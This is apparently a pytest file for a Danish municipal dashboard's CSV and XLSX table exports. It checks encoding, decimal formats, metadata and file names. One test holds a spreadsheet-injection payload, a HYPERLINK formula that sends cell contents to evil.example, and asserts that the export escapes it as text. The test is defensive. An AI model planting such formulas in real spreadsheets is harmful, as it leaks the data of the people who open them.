"""Tables as CSV and XLSX (municipalities/tabular.py, with the metadata of dashboard/tables.py): read back the way a
spreadsheet user's tools read them."""

import datetime as dt
import io
from decimal import Decimal

import pandas as pd
import pytest
from django.utils import translation
from openpyxl import load_workbook

from dashboard import tables
from municipalities import tabular

ROWS = [
    ["København", 63, Decimal("9.08"), Decimal("0.20"), Decimal("12345.6")],
    ["Aarhus", 12, Decimal("8.60"), Decimal("-0.16"), Decimal("-7.25")],
    ["Ærø", None, None, Decimal("0"), Decimal("1000000")],
]


def _table(is_demo: bool = True) -> tabular.Table:
    columns = [
        tabular.Column("Kommune"),
        tabular.Column("Placering", tabular.INTEGER),
        tabular.Column("Faktisk andel (pct.)", tabular.PERCENT, 2),
        tabular.Column("Forskel (procentpoint)", tabular.POINTS, 2),
        tabular.Column("Personer", tabular.DECIMAL, 1),
    ]
    retrieved = dt.datetime(2021, 3, 4, 5, 6, tzinfo=dt.UTC)
    metadata = tables.describe(
        is_demo=is_demo, period="2020QMAT02", retrieved_at=retrieved, details=[("Sortering", "Placering, stigende")]
    )
    return tabular.Table(
        "Benchmark", columns, [list(r) for r in ROWS], metadata, is_demo, "jobmaal-x-Y30R21-2020QMAT02"
    )


def test_the_csv_has_a_bom_semicolons_and_decimal_commas_and_reads_back_as_numbers():
    with translation.override("da"):
        text = tabular.to_csv(_table())
    assert text.startswith("\ufeffDEMODATA")
    lines = text.lstrip("\ufeff").split("\r\n")
    assert lines[1] == "Benchmark" and lines[2].split(";")[0] == "Kommune"
    assert lines[3] == "København;63;9,08;0,20;12345,6"  # no thousands separator, places as published
    assert lines[4] == "Aarhus;12;8,60;-0,16;-7,3"  # half away from zero, as people round
    frame = pd.read_csv(
        io.BytesIO(text.encode("utf-8")), encoding="utf-8-sig", sep=";", decimal=",", skiprows=2, nrows=len(ROWS)
    )
    assert list(frame["Kommune"]) == ["København", "Aarhus", "Ærø"]
    assert frame["Faktisk andel (pct.)"].tolist()[:2] == [9.08, 8.6] and pd.isna(frame["Faktisk andel (pct.)"][2])
    assert frame["Forskel (procentpoint)"].tolist() == [0.2, -0.16, 0.0]
    assert frame["Personer"].tolist()[::2] == [12345.6, 1000000.0]
    assert frame["Placering"].tolist()[:2] == [63, 12]
    assert "Sortering;Placering, stigende" in lines and any(line.startswith("Data;Demodata") for line in lines)


def test_real_figures_have_no_demo_line():
    with translation.override("da"):
        text = tabular.to_csv(_table(is_demo=False))
    assert text.startswith("\ufeffBenchmark\r\n")
    assert "Data;Rigtige tal fra Jobindsats.dk" in text


def test_the_workbook_stores_numbers_as_numbers_with_formats_a_frozen_header_and_metadata():
    with translation.override("da"):
        book = load_workbook(io.BytesIO(tabular.to_xlsx(_table())))
    sheet = book.worksheets[0]
    assert sheet.title == "Tabel" and sheet.freeze_panes == "A3"
    assert sheet["A1"].value == "Demodata (genererede tal, ikke rigtige tal): Benchmark" and sheet["A1"].font.b
    assert [c.value for c in sheet[2]] == [
        "Kommune",
        "Placering",
        "Faktisk andel (pct.)",
        "Forskel (procentpoint)",
        "Personer",
    ]
    assert all(c.font.b for c in sheet[2])
    body = [[c.value for c in row] for row in sheet.iter_rows(min_row=3)]
    assert [r[0] for r in body] == ["København", "Aarhus", "Ærø"]
    for got, want in zip(body, ROWS, strict=True):
        for value, expected in zip(got[1:4], want[1:4], strict=True):
            if expected is None:
                assert value is None
            else:
                assert isinstance(value, int | float) and Decimal(str(value)) == expected
    assert Decimal(str(body[0][4])) == Decimal("12345.6") and body[2][4] == 1000000
    assert sheet["B3"].number_format == "#,##0" and sheet["C3"].number_format == "#,##0.00"
    assert sheet["D4"].number_format == "+#,##0.00;-#,##0.00;0.00" and sheet["E3"].number_format == "#,##0.0"
    assert sheet.column_dimensions["A"].width >= 12
    meta = [[c.value for c in row] for row in book["Metadata"].iter_rows()]
    assert meta[0] == ["Data", "Demodata (genererede tal, ikke rigtige tal)"]
    assert ["Periode", "fire kvartaler til og med 2. kvartal 2020 (2020QMAT02)"] in meta
    assert ["Hentet", "4. marts 2021 kl. 06.06"] in meta  # Danish time, with a full stop (config/formats/da)
    assert ["Sortering", "Placering, stigende"] in meta


@pytest.mark.parametrize(
    ("what", "expected"),
    [
        ("rangering", "jobmaal-rangering-Y30R21-2020QMAT02"),
        ("opfoelgning-Kontanthjælp mv.", "jobmaal-opfoelgning-kontanthjaelp-mv-Y30R21-2020QMAT02"),
    ],
)
def test_file_names_keep_to_safe_letters(what, expected):
    assert tables.filename(what, "Y30R21", "2020QMAT02") == expected


def test_a_name_or_choice_that_reads_as_a_formula_is_text_in_both_files_and_numbers_stay_numbers():
    """A custom group's name and the choices made come from users: neither may run in the reader's spreadsheet."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'
    table = _table()
    table.rows[0][0] = hostile
    table.metadata.append(("Egen gruppe", "@SUM(A1:A9)"))
    text = tabular.to_csv(table)
    assert f"'{hostile}" in text.replace('""', '"') and "'@SUM(A1:A9)" in text
    assert ";-0,16;" in text  # a negative number is still a number
    book = load_workbook(io.BytesIO(tabular.to_xlsx(table)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert (
        book.active["A3"].value == hostile and book["Metadata"].cell(book["Metadata"].max_row, 2).value == "@SUM(A1:A9)"
    )
    assert book.active["D4"].value == Decimal("-0.16") or book.active["D4"].value == -0.16


def test_every_export_is_a_filename_a_content_type_and_bytes():
    name, content_type, body = tabular.export(_table(), "csv")
    assert (name, content_type) == ("jobmaal-x-Y30R21-2020QMAT02.csv", "text/csv; charset=utf-8")
    assert body.startswith("\ufeff".encode())
    name, content_type, body = tabular.export(_table(), "xlsx")
    assert name.endswith(".xlsx") and content_type == tabular.CONTENT_TYPES["xlsx"] and body[:2] == b"PK"


def test_a_table_for_pandas_has_its_header_first_and_values_as_stored():
    columns = [  # as the report's CSV makes them: every column as stored
        tabular.Column("Mål", tabular.INTEGER, places=None),
        tabular.Column("Periodens start", tabular.DATE, places=None),
        tabular.Column("Værdi", tabular.DECIMAL, places=None),
    ]
    rows = [[2, dt.date(2020, 1, 1), Decimal("1200.000000")], [3, dt.date(2020, 2, 1), Decimal("27.960000")]]
    text = tabular.to_csv(tabular.Table(None, columns, rows))
    assert text.split("\r\n") == ["\ufeffMål;Periodens start;Værdi", "2;2020-01-01;1200", "3;2020-02-01;27,96", ""]
    frame = pd.read_csv(io.StringIO(text.lstrip("\ufeff")), sep=";", decimal=",", parse_dates=["Periodens start"])
    assert frame["Værdi"].tolist() == [1200.0, 27.96]
